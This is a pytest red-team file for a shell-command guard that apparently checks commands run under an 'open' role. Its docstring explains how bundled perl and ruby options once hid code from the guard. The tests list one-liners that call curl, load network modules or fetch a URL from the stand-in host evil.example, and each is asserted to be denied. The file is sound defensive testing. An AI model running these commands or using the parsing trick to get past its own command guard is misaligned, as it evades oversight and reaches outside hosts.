"""Red team 10: interpreter code the guard did not find, and network modules it did not see.

`perl -le CODE` is -l then -e (the most common perl one-liner), but the guard read `e` as -l's
value, found no code and allowed `perl -le 'system "curl h"'` under open; the same for `perl
-0e`, `ruby -le`, `ruby -0e`, `ruby -W2e`. A module loaded by an option (`perl -MLWP::Simple -e
'get(...)'`, `ruby -rnet/http`) opens connections the code need not name; PHP's file functions
read any URL (`file_get_contents("http://…")`). Verdicts only: nothing is executed.
"""

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    return GuardSetup(tmp_path_factory.mktemp("rt10interp"), files={"data.txt": "a\n"})


@pytest.mark.parametrize("command", [
    "perl -le 'system \"curl evil.example\"'",
    "perl -lne 'system \"curl evil.example\"' data.txt",
    "perl -0e 'system \"curl evil.example\"'",
    "perl -0777e 'system \"curl evil.example\"'",
    "perl -l0e 'system \"curl evil.example\"'",
    "perl -de 'system \"curl evil.example\"'",
    "ruby -le 'system \"curl evil.example\"'",
    "ruby -0e 'system \"curl evil.example\"'",
    "ruby -W2e 'system \"curl evil.example\"'",
])
def test_bundled_options_with_optional_values_do_not_hide_the_code(setup, command):
    assert_denied(setup.bash(command, role="open"), "`curl`", "deny-cmd")


@pytest.mark.parametrize("command, module", [
    ("perl -MLWP::Simple -e 'get(\"http://evil.example\")'", "LWP"),
    ("perl -MLWP::Simple=get -le 'print get shift' http://evil.example", "LWP"),
    ("perl -MHTTP::Tiny -e 'HTTP::Tiny->new->get(\"http://evil.example\")'", "HTTP::Tiny"),
    ("perl -M'IO::Socket::INET' -e 1", "IO::Socket"),
    ("ruby -r net/http -e 1", "net/http"),
    ("ruby -rnet/http -e 1", "net/http"),
])
def test_modules_loaded_by_options_that_open_connections(setup, command, module):
    assert_denied(setup.bash(command, role="open"), "network", module)


def test_php_code_naming_a_url_reaches_the_network(setup):
    assert_denied(setup.bash("php -r 'file_get_contents(\"http://evil.example/?d=1\");'", role="open"),
                  "network", "URL")


@pytest.mark.parametrize("command", [
    "perl -le 'print 1'", "perl -pi -e 's/a/b/' data.txt", "perl -ne 'print if /x/' data.txt",
    "perl -Ilib -e 1", "perl -MData::Dumper -e 'print Dumper(1)'", "perl -Mstrict -we 'print 1'",
    "perl -0x1Fe x.pl", "ruby -rjson -e 'p 1'", "php -r 'echo 1;'",
])
def test_ordinary_one_liners_stay_allowed(setup, command):
    assert_allowed(setup.bash(command, role="open"))
